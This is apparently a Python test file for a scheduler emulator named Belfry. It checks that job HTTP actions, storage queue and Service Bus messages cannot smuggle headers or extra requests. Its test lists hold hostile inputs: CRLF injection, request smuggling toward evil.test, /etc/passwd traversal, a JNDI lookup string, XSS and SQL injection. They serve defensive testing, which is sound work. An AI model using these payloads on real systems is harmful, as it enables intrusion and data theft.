#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Nothing that a job holds can make the request another one than was asked for.

    injection.py PATH_OF_BELFRY

A sink keeps every byte of every connection, and what was sent is compared whole: values that
look like an attack and are legal arrive as they were written, inside the one request, and those
that are not legal are refused with the name of their member and lead to no connection at all.
"""
import base64
import re
import socket
import sys
import threading

from rest import Client, Group, collection_body, job_body
from server import Server
from suite import Suite, binary_of, equal, holds

NOW = "2030-01-01T00:00:00Z"
GUID = re.compile(rb"[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}")
SMUGGLED = "\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n"

# With these set by the job, every byte of the request is known beforehand.
KNOWN = {"User-Agent": "u", "x-ms-scheduler-jobid": "j", "x-ms-scheduler-jobcollectionid": "c",
         "x-ms-scheduler-expected-execution-time": "t", "x-ms-execution-tag": "e",
         "x-ms-client-request-id": "i", "Idempotency-Key": "k", "traceparent": "p",
         "Content-Type": "b"}

LEGAL_TARGETS = [
    "/", "/a%0d%0aX-Evil:%20yes", "/%00", "/a?b=%0A&c=http://u@evil.test/", "//evil.test/../x",
    "/'\"<>|\\^{}`;,@:$!*()[]", "/?" + "?" * 50, "/%", "/%zz", "/a/../../etc/passwd"]

LEGAL_VALUES = [
    "", "a: b", "x-evil: yes", "%0d%0aX-Evil: yes", "\\r\\nX-Evil: yes", "a\tb", " spaces around ",
    "\"quoted\"; \\\"more\\\"", "gr\u00fc\u00df", "\u010d\u010aX-Evil: yes",  # …0D and …0A
    "\u560d\u560aX-Evil: yes", "\u2028\u2029\u0085", "\U0001f514", "${jndi:ldap://evil.test/a}",
    "<script>alert(1)</script>", "'; DROP TABLE jobs; --", "{{7*7}}", "chunked", "close"]

LEGAL_BODIES = [
    "", "\r\n", SMUGGLED, "0" + SMUGGLED, "5\r\nhello\r\n0" + SMUGGLED, "\x00\x01\x7f",
    "a" * 8192, "\u010d\u010a", "\U0001f514" * 100, "<!--\"'&-->"]

# A value, and the member that the refusal must name.
REFUSED_REQUESTS = [
    *[({"uri": uri}, "uri") for uri in (
        "http://127.0.0.1:{port}/a\r\nX-Evil: yes", "http://127.0.0.1:{port}/a\nb",
        "http://127.0.0.1:{port}/\x00", "http://127.0.0.1:{port}/a b",
        "http://127.0.0.1:{port}/\u00e9", "http://127.0.0.1:{port}\\@evil.test/",
        "http://evil.test@127.0.0.1:{port}/", "http://127.0.0.1:{port}\t/",
        "http://127.0.0.1:{port} /", "http://127.0.0.1%0d:{port}/",
        "gopher://127.0.0.1:{port}/_x", "file:///etc/passwd")],
    *[({"headers": {name: "v"}}, "headers." + name) for name in (
        "", "a b", "a:", "a\r\nb", "a\x00", "\u00e9", "(a)", "a\t",
        "Host", "hOST", "Content-Length", "Transfer-Encoding", "Connection", "Keep-Alive",
        "Proxy-Connection", "Proxy-Authorization", "Proxy-Authenticate", "TE", "Trailer",
        "Upgrade", "Expect", "HTTP2-Settings")],
    *[({"headers": {"a": value}}, "headers.a") for value in (
        "b\r\nX-Evil: yes", "b\nX-Evil: yes", "b\rX-Evil: yes", "b\x00", "b\x0b", "b\x7f",
        "b\x1b[0m", "\r\n", "b\r\n")],
    *[({"method": method}, "method") for method in (
        "GET / HTTP/1.1\r\nX: y", "GET\r\n", "CONNECT", "TRACE", "GET ", "G\x00T")],
]


class RawSink:
    """Keeps all bytes of each connection until the other side closes it."""

    def __init__(self):
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self.connections = []
        self._changed = threading.Condition()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            connection, _ = self._listener.accept()
            threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection):
        received = b""
        while not is_complete(received):
            received += connection.recv(65536)
        connection.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n"
                           b"Connection: close\r\n\r\n")
        while more := connection.recv(65536):
            received += more
        connection.close()
        with self._changed:
            self.connections.append(received)
            self._changed.notify_all()

    def take(self, count):
        """The bytes of so many connections, when they have ended."""
        with self._changed:
            self._changed.wait_for(lambda: len(self.connections) >= count, timeout=60)
            taken, self.connections = self.connections, []
        return taken


def is_complete(received):
    head, end, body = received.partition(b"\r\n\r\n")
    length = re.search(rb"\r\nContent-Length: (\d+)", head)
    return bool(end) and len(body) >= (int(length.group(1)) if length else 0)


class Bench:
    """A server whose clock stands still, a collection on it, and the sink."""

    def __init__(self, server, sink):
        self.client = Client(server.port)
        self.group = Group()
        self.sink = sink
        self.jobs = 0
        equal(self.client.put(self.group.collection(), collection_body("P20Premium")).status, 201)

    def put(self, action):
        """Always with a name of its own: what was refused before leaves nothing behind."""
        self.jobs += 1
        return self.client.put(self.group.job(f"j{self.jobs}"), {"properties": {"action": action}})

    def sent(self, action):
        """Everything that one run of the action sends."""
        answer = self.put(action)
        equal(answer.status, 201, answer)
        equal(self.client.request("POST", "/clock", {"advance": "PT1S"}).status, 200)
        connections = self.sink.take(1)
        equal(len(connections), 1)
        return connections[0]

    def http(self, **request):
        request.setdefault("uri", f"http://127.0.0.1:{self.sink.port}/")
        return {"type": "Http", "request": {"method": "POST", "headers": KNOWN, **request}}


def expected_request(port, target="/", headers=None, body=""):
    """Byte by byte, as it has to arrive."""
    raw = body.encode()
    lines = [f"POST {target} HTTP/1.1", f"Host: 127.0.0.1:{port}"]
    lines += [f"{name}: {value}" for name, value in (headers or KNOWN).items()]
    lines += [f"Content-Length: {len(raw)}", "", ""]
    return "\r\n".join(lines).encode() + raw


def legal_requests(suite, bench):
    port = bench.sink.port
    for target in LEGAL_TARGETS:
        with suite.case(f"the target {target!r} is sent as it is"):
            sent = bench.sent(bench.http(uri=f"http://127.0.0.1:{port}{target}"))
            equal(sent, expected_request(port, target=target))
    with suite.case("a fragment is not sent"):
        sent = bench.sent(bench.http(uri=f"http://127.0.0.1:{port}/a#\"frag"))
        equal(sent, expected_request(port, target="/a"))
    for value in LEGAL_VALUES:
        with suite.case(f"the header value {value!r} is sent as it is"):
            headers = {"x-first": value, **KNOWN, "!#$%&'*+-.^_`|~1aZ": value}
            equal(bench.sent(bench.http(headers=headers)),
                  expected_request(port, headers=headers))
    for body in LEGAL_BODIES:
        with suite.case(f"the body {body[:40]!r} is sent as it is, and counted in bytes"):
            equal(bench.sent(bench.http(body=body)), expected_request(port, body=body))
    with suite.case("a user name and a password cannot leave their header"):
        login = {"type": "Basic", "username": "u\r\nX-Evil: yes", "password": "p" + SMUGGLED}
        credentials = base64.b64encode(f"{login['username']}:{login['password']}".encode())
        headers = {**KNOWN, "Authorization": "Basic " + credentials.decode()}
        equal(bench.sent(bench.http(authentication=login)), expected_request(port, headers=headers))


def refused_requests(suite, bench):
    port = bench.sink.port
    for change, member in REFUSED_REQUESTS:
        change = {k: v.replace("{port}", str(port)) if k == "uri" else v
                  for k, v in change.items()}
        for role in ("action", "errorAction"):
            with suite.case(f"refused, in {role}: {change!r}"):
                bad = bench.http(**change)
                action = bad if role == "action" else {**bench.http(), "errorAction": bad}
                path = "properties.action." + ("" if role == "action" else "errorAction.")
                answer = bench.put(action)
                equal((answer.status, answer.error["code"]), (400, "BadRequest"), answer)
                equal(answer.error["target"], f"{path}request.{member}")
    with suite.case("a PATCH brings in nothing that a PUT may not"):
        path = bench.group.job("patched")
        equal(bench.client.put(path, job_body(bench.http())).status, 201)
        for change, _ in REFUSED_REQUESTS:
            answer = bench.client.patch(path, {"properties": {"action": {"request": change}}})
            equal(answer.status, 400, change)
        equal(bench.client.delete(path).status, 200)
    with suite.case("what was refused was never sent"):
        equal(bench.sent(bench.http(body="the only one")),
              expected_request(port, body="the only one"))


def queue(message, **more):
    return {"type": "StorageQueue", "queueMessage": {
        "storageAccount": "acc", "queueName": "q", "sasToken": "sv=1&sig=s%2B", "message": message,
        **more}}


HOSTILE_MESSAGES = ["", "a\r\nb", "</Message></StorageQueueMessage><Evil/>", "<![CDATA[x]]>",
                    "]]>", "&amp;&#13;", "\"'\t", "\U0001f514\u010d\u010a", SMUGGLED]


def xml(text):
    for character, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ("\r", "&#xD;")):
        text = text.replace(character, entity)
    return text


def masked(sent):
    return GUID.sub(b"<guid>", sent)


def queue_request(port, target, body):
    return (f"POST {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUser-Agent: ".encode(),
            f"\r\nContent-Type: application/xml\r\nx-ms-client-request-id: <guid>\r\n"
            f"Content-Length: {len(body)}\r\n\r\n".encode() + body)


def bare_queue_messages(suite, bench):
    port = bench.sink.port
    for message in HOSTILE_MESSAGES:
        with suite.case(f"the queue message {message!r} stays inside its element"):
            body = (f"<QueueMessage><MessageText>{xml(message)}</MessageText>"
                    "</QueueMessage>").encode()
            begin, end = queue_request(port, "/acc/q/messages?sv=1&sig=s%2B", body)
            sent = masked(bench.sent(queue(message)))
            holds(sent.startswith(begin + b"Belfry/") and sent.endswith(end), (sent, begin, end))
            equal(sent[len(begin):-len(end)].count(b"\n"), 0)


def enveloped_queue_messages(suite, bench):
    for message in HOSTILE_MESSAGES:
        with suite.case(f"the queue message {message!r} stays inside its envelope"):
            sent = bench.sent(queue(message))
            text = re.search(rb"<QueueMessage><MessageText>([A-Za-z0-9+/=]+)</MessageText>"
                             rb"</QueueMessage>$", sent).group(1)
            envelope = base64.b64decode(text, validate=True)
            element = f"<Message>{xml(message)}</Message></StorageQueueMessage>".encode()
            holds(envelope.endswith(element), (envelope, element))
            equal(envelope.count(b"<Message>"), 1)


def refused_messages(suite, bench):
    cases = [(queue("a\x00"), "queueMessage.message"), (queue("\x0b"), "queueMessage.message"),
             *[(queue("m", **{member: value}), f"queueMessage.{member}") for member, value in (
                 ("storageAccount", "acc\r\nX: y"), ("storageAccount", "acc.evil.test/"),
                 ("storageAccount", "a@b"), ("queueName", "q?comp=acl"), ("queueName", "../q"),
                 ("queueName", "q\r\n"), ("sasToken", "sv=1\r\nX: y"), ("sasToken", "sv=1 "),
                 ("sasToken", "sv=1#"))],
             *[(service_bus(**{member: value}), f"serviceBusQueueMessage.{member}") for
               member, value in (
                 ("namespace", "ns\r\nX: y"), ("namespace", "evil.test/"), ("queueName", "q\r\n"),
                 ("queueName", "q?x"))],
             (service_bus(brokeredMessageProperties={"contentType": "a\r\nX: y"}),
              "serviceBusQueueMessage.brokeredMessageProperties.contentType"),
             (service_bus(brokeredMessageProperties={"label": "a\x00"}),
              "serviceBusQueueMessage.brokeredMessageProperties.label"),
             *[(service_bus(customMessageProperties={name: "v"}),
                f"serviceBusQueueMessage.customMessageProperties.{name}") for name in (
                 "Host", "Content-Length", "Transfer-Encoding", "Authorization", "BrokerProperties",
                 "a\r\nb", "a b", "")]]
    for action, member in cases:
        with suite.case(f"refused: {action!r}"):
            answer = bench.put(action)
            equal((answer.status, answer.error["target"]), (400, f"properties.action.{member}"),
                  answer)
    with suite.case("no refused message was sent"):
        holds(b"/acc/q/messages" in bench.sent(queue("the only one")), "the only one")


def service_bus(**more):
    return {"type": "ServiceBusQueue", "serviceBusQueueMessage": {
        "namespace": "ns", "queueName": "q", "message": "m", "transportType": "NetMessaging",
        "authentication": {"type": "SharedAccessKey", "sasKeyName": "n", "sasKey": "k"}, **more}}


def service_bus_messages(suite, bench):
    port = bench.sink.port
    hostile = "\r\nX-Evil: yes\t\"\\\u010d\u010a\u2028"
    ascii_json = "\\u000d\\u000aX-Evil: yes\\u0009\\\"\\\\\\u010d\\u010a\\u2028"
    for message in ["", SMUGGLED, "\x00\x01", "\U0001f514"]:
        with suite.case(f"the Service Bus message {message!r} and its properties stay in place"):
            sent = bench.sent(service_bus(
                message=message,
                brokeredMessageProperties={"messageId": "id", "label": hostile,
                                           "contentType": "text/plain; x=\"\u00e4\""},
                customMessageProperties={"p": hostile, "n": 1}))
            raw = message.encode()
            end = (f"\r\nBrokerProperties: {{\"MessageId\":\"id\",\"Label\":\"{ascii_json}\"}}"
                   "\r\nContent-Type: text/plain; x=\"\u00e4\""
                   f"\r\np: \"{ascii_json}\"\r\nn: 1"
                   f"\r\nContent-Length: {len(raw)}\r\n\r\n").encode() + raw
            begin = (f"POST /ns/q/messages HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                     "Authorization: SharedAccessSignature sr=").encode()
            holds(sent.startswith(begin), (sent, begin))
            equal(sent[-len(end):], end)
            equal(sent[len(begin):-len(end)].count(b"\r\n"), 1, "only User-Agent between them")


def main():
    suite = Suite()
    binary = binary_of(sys.argv)
    sink = RawSink()
    endpoints = ("--virtual-clock", NOW,
                 "--storage-queue-endpoint", f"http://127.0.0.1:{sink.port}/{{account}}",
                 "--service-bus-endpoint", f"http://127.0.0.1:{sink.port}/{{namespace}}")
    with Server(binary, *endpoints) as server:
        bench = Bench(server, sink)
        legal_requests(suite, bench)
        refused_requests(suite, bench)
        enveloped_queue_messages(suite, bench)
        service_bus_messages(suite, bench)
        refused_messages(suite, bench)
    with Server(binary, *endpoints, "--storage-queue-envelope", "none",
                "--storage-queue-encoding", "text") as server:
        bare_queue_messages(suite, Bench(server, sink))
    return suite.finish()


if __name__ == "__main__":
    sys.exit(main())
